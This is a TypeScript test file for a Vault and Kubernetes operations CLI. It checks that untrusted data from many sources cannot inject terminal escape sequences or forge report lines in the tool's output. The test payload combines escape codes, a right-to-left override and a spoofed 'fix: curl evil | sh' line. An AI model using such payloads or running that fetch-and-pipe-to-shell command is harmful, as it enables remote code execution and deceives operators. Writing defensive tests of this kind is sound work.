import { config, rootToken, Site } from "../operate/site";
import { Checkout } from "./checkout";
import type { Ran } from "./ran";

/** Sets the window's title, clears the screen, colours by 8 bits, turns the direction, and forges lines of a report. */
const hostile = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\r\n✔ spoofed\n    fix: curl evil | sh\n";

let checkout: Checkout;
let site: Site;
beforeAll(() => {
  checkout = new Checkout({ test: config });
});
afterAll(() => {
  checkout.dispose();
});
beforeEach(async () => {
  site = await Site.start();
});
afterEach(() => site.stop());

const run = (...args: string[]): Promise<Ran> => checkout.run([...args, ...options()], env());
const options = (): string[] => ["--env", "test", "--config", `vault.addressFromHere=${site.vault.address}`];
const env = (): NodeJS.ProcessEnv => ({ KUBECONFIG: site.cluster.kubeconfig, VAULT_TOKEN: rootToken });

const ways: [what: string, args: string[], plant: () => unknown][] = [
  ["a key in Vault", ["verify"], () => site.vault.put("aidbox/client", { [hostile]: "x" })],
  [
    "a policy's text",
    ["verify"],
    () =>
      site.vault.entries.set("sys/policies/acl/aidbox", { policy: `path "${hostile}" { capabilities = ["read"] }` }),
  ],
  [
    "a role's field",
    ["verify"],
    () => Object.assign(site.vault.entries.get("auth/kubernetes/role/aidbox")!, { token_policies: [hostile] }),
  ],
  ["an object's field", ["verify"], () => site.cluster.change("Deployment", "aidbox", changedImage)],
  ["a container's state", ["verify"], () => site.cluster.change("Pod", "aidbox-a", notReady)],
  [
    "the driver's metrics",
    ["status"],
    () => {
      site.cluster.files.get("aidbox-b")!.set("/run/vault-secrets/client-secret", "a stale one");
      const kind = hostile.replaceAll(/[\r\n]/g, " ");
      site.cluster.metrics = `rotation_reconcile_error_total{error_type="${kind}"} 3\n`;
    },
  ],
  [
    "Vault's words of an error",
    ["status"],
    () =>
      (site.vault.intercept = ({ path }) =>
        path.startsWith("secret/metadata/") ? { status: 400, body: { errors: [hostile] } } : undefined),
  ],
  [
    "Vault's words of a refused write",
    ["rotate", "client-secret", "--generate", "32"],
    () =>
      (site.vault.intercept = ({ method }) =>
        method === "PATCH" ? { status: 400, body: { errors: [hostile] } } : undefined),
  ],
  [
    "the cluster's words of an error",
    ["status"],
    () => (site.cluster.intercept = () => ({ status: 500, body: { message: hostile } })),
  ],
];
const changedImage = {
  spec: { template: { spec: { containers: [{ name: "aidbox", image: hostile }], serviceAccountName: hostile } } },
};
const notReady = {
  status: { containerStatuses: [{ name: "aidbox", ready: false, state: { waiting: { reason: hostile } } }] },
};

describe("nothing that comes from elsewhere steers the terminal, or forges a line:", () => {
  test.each(ways)("%s", async (_, args, plant) => {
    plant();
    const { stdout, stderr } = await run(...args);
    const text = stdout + stderr;
    expect(text).toContain("owned");
    expect(text).not.toMatch(/[^\P{C}\n]/u);
    expect(text).not.toMatch(/^(✔ spoofed| *fix: curl)/m);
  });

  // A line break of the operator's own is theirs, and the API server takes none in a name.
  test.each<[what: string, args: string[], plant: () => unknown]>([
    ["an option", [`--${hostile}`], () => undefined],
    ["a command", [hostile], () => undefined],
    ["a secret's name", ["rotate", hostile, "--generate", "32"], () => undefined],
  ])("%s does not steer it", async (_, args, plant) => {
    plant();
    const { stdout, stderr } = await run(...args);
    expect(stdout + stderr).toContain("owned");
    expect(stdout + stderr).not.toMatch(/[^\P{C}\n]/u);
  });

  // The library for websockets fails on it, with a stack trace.
  test("a pod's name does not steer it, by which the program crashes", async () => {
    site.addPod(hostile);
    const { code, stdout, stderr } = await checkout.spawn(["status", ...options()], env());
    expect(code).toBe(1);
    expect(stderr).toMatch(/^ {4}at .*infra\/operate\/pods\.ts:\d+:\d+\)$/m); // its own source, not what is made of it
    expect(stdout + stderr).toContain("owned");
    expect(stdout + stderr).not.toMatch(/[^\P{C}\n]/u);
  });

  test("for machines it is the same data, and steers nothing either", async () => {
    site.vault.put("aidbox/client", { [hostile]: "x" });
    const { stdout } = await run("verify", "--json");
    expect(stdout).not.toMatch(/[^\P{C}\n]/u);
    expect(JSON.stringify(JSON.parse(stdout))).toContain(JSON.stringify(hostile).slice(1, -1));
  });
});
